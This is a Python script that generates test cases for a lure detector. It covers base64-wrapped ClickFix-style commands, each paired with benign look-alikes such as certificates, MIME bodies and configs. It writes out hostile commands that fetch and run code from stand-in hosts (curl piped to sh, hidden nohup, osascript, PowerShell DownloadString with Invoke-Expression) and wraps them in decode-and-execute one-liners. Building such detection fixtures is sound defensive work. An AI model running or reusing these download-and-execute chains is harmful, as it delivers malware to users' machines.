"""Writes tests/data/cases/lures4.jsonl: lure techniques found missing or only warned about by
probing the engine with our own variants of 2025-2026 tradecraft (ClickFix, FileFix, fake
CAPTCHA, fake meeting and crash fixes, macOS and Linux stealer chains, console stealers,
device-code phishing, remote-access scams), each beside the everyday text that looks like it
and must stay quiet.

    python tests/data/cases/make_lures4.py

Deterministic (encoded lures are computed, random bytes come from a seeded generator). Hosts
are reserved names (*.test, *.invalid, *.example) and documentation addresses; phone numbers
are fictitious. No text is copied from a lure collection, an IOC file or another detector's
fixtures. Each line is {id, text, expect, technique, platform[, source], target}.

Techniques:

- `b64-wrapped`: a base64 payload wrapped into lines (76 columns as `base64` writes it, 64 as
  PEM, a here-string's own width), decoded by a shell or PowerShell, or pasted alone: the
  lines are joined before they are read, so a command cut at a line end is read whole.
  Look-alikes: a PEM certificate, a MIME mail body, a wrapped JSON config, a key file;
"""

from __future__ import annotations

import base64
import random
import textwrap
from pathlib import Path

OUT = Path(__file__).with_name("lures4.jsonl")
STRANGER = "https://www.tidewater-bakery.example/order/confirm"
CAPTCHA = "https://verify.lumen-check.example/human"
BENIGN = "none"


def case(
    cid: str,
    text: str,
    expect: str,
    technique: str,
    platform: str,
    target: str,
    source: str | None = None,
) -> dict[str, str]:
    out = {"id": cid, "text": text, "expect": expect, "technique": technique, "platform": platform}
    if source:
        out["source"] = source
    out["target"] = target
    return out


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def u16(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


def wrap(blob: str, width: int, newline: str = "\n") -> str:
    return newline.join(textwrap.wrap(blob, width))


def wrapped_base64() -> list[dict[str, str]]:
    sh = [
        "curl -fsSL https://cdn.lumen-gate.test/stage/macos/agent-installer-v2.sh -o /tmp/.agent"
        " && chmod +x /tmp/.agent && /tmp/.agent --quiet --no-prompt && rm -f /tmp/.agent",
        "cd /tmp && curl -s -O http://198.51.100.61/pkg/update-helper && chmod 755 update-helper"
        " && nohup ./update-helper >/dev/null 2>&1 &",
        "osascript -e 'do shell script \"curl -s https://files.quay-helper.invalid/m/run.sh | zsh\"'"
        " ; killall Terminal",
    ]
    ps = [
        "$u='https://cdn.lumen-gate.test/stage/win/agent.ps1';$c=(New-Object Net.WebClient)"
        ".DownloadString($u);Invoke-Expression $c;Remove-Item $env:TEMP\\x -ea 0",
        "iwr https://dl.pixel-ward.invalid/tools/helper-setup.exe -OutFile $env:TEMP\\hs.exe;"
        "Start-Process $env:TEMP\\hs.exe -WindowStyle Hidden",
    ]
    out: list[dict[str, str]] = []
    n = 0

    def add(text: str, expect: str, platform: str, target: str, source: str | None) -> None:
        nonlocal n
        n += 1
        out.append(
            case(f"l4-b64-wrapped-{n:02d}", text, expect, "b64-wrapped", platform, target, source)
        )

    for i, cmd in enumerate(sh):
        blob = b64(cmd)
        width = (76, 64, 60)[i]
        add(
            f"echo '{wrap(blob, width)}' | base64 --decode | sh",
            "malicious",
            "macos",
            "terminal",
            STRANGER,
        )
        add(
            f"base64 -d <<'EOF' | bash\n{wrap(blob, width)}\nEOF",
            "malicious",
            "linux",
            "terminal",
            STRANGER,
        )
        add(wrap(blob, width, "\r\n"), "flagged", "any", "unknown", None)
    for i, cmd in enumerate(ps):
        width = (76, 64)[i]
        add(
            f"$b=@'\n{wrap(b64(cmd), width)}\n'@\n"
            "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($b)))",
            "malicious",
            "windows",
            "terminal",
            CAPTCHA,
        )
        add(
            '$p = "' + wrap(u16(cmd), width, "\n    ") + '"\n'
            "powershell -NoProfile -EncodedCommand ($p -replace '\\s','')",
            "malicious",
            "windows",
            "terminal",
            CAPTCHA,
        )
        add("    " + wrap(u16(cmd), width, "\n    "), "flagged", "windows", "unknown", None)
    return out


def wrapped_base64_benign() -> list[dict[str, str]]:
    rng = random.Random(4)
    out: list[dict[str, str]] = []

    def add(cid: str, text: str) -> None:
        out.append(case(f"l4-ok-b64-wrapped-{cid}", text, "not_flagged", BENIGN, "any", "other"))

    der = bytes(rng.randrange(256) for _ in range(900))
    add(
        "pem",
        "-----BEGIN CERTIFICATE-----\n"
        + wrap(base64.b64encode(der).decode(), 64)
        + "\n-----END CERTIFICATE-----",
    )
    letter = (
        "Hello team,\n\nthe quarterly report is attached. Please review the figures for the "
        "northern region before Friday and send comments to finance.\n\nThanks, Maria"
    )
    add(
        "mime",
        "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: base64\n\n"
        + wrap(b64(letter), 76),
    )
    config = '{"name": "web-frontend", "replicas": 3, "image": "registry.example/web:1.4.2", "env": {"LOG_LEVEL": "info"}}'
    add("config", "data:\n  config.json: |\n    " + wrap(b64(config), 64, "\n    "))
    key = bytes(rng.randrange(256) for _ in range(400))
    add(
        "ssh-key",
        "-----BEGIN OPENSSH PRIVATE KEY-----\n"
        + wrap(base64.b64encode(key).decode(), 70)
        + "\n-----END OPENSSH PRIVATE KEY-----",
    )
    script = "Get-ChildItem -Path C:\\Logs -Filter *.log | Where-Object LastWriteTime -lt (Get-Date).AddDays(-30) | Remove-Item"
    add("ps-maintenance", "# cleanup job, encoded for the scheduler\n" + wrap(u16(script), 76))
    return out


def build() -> list[dict[str, str]]:
    cases = [*wrapped_base64(), *wrapped_base64_benign()]
    ids = [c["id"] for c in cases]
    assert len(ids) == len(set(ids)), "case ids must be unique"
    return cases


CASES = build()

if __name__ == "__main__":
    from casefile import write  # beside this script, which runs as tests/data/cases/make_*.py

    write(OUT, CASES)
